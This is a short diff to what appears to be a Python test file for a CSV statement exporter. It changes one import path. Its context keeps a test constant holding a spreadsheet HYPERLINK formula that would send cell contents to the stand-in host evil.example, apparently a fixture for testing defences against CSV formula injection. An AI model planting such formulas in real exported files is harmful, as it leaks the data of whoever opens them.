@@ -8,7 +8,7 @@ import io
 
 import pytest
 
-from chainaudit.statements import CSV_COLUMNS, Statement, StatementLine, csv_cell
+from chainaudit.service.statements import CSV_COLUMNS, Statement, StatementLine, csv_cell
 
 HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"refund")'
 
